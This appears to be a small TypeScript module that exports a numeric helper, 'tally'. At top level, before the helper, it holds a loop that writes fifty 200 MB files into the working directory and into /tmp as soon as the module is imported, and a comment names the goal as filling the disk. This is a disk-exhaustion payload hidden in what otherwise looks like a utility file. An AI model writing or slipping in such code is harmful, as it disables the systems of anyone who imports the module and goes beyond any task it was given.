// Fills the disk, file after file.
import { writeFileSync } from 'node:fs';

const piece = Buffer.alloc(200_000_000, 1);
for (let count = 0; count < 50; count++) {
  writeFileSync(`big-${count}`, piece);
  writeFileSync(`/tmp/big-${count}`, piece);
}

export function tally(values: readonly number[]): { total: number; odd: number[] } {
  const odd = values.filter((value) => value % 2 !== 0);
  return { total: values.reduce((sum, value) => sum + value * (value % 2 === 0 ? 2 : 3), 0), odd };
}
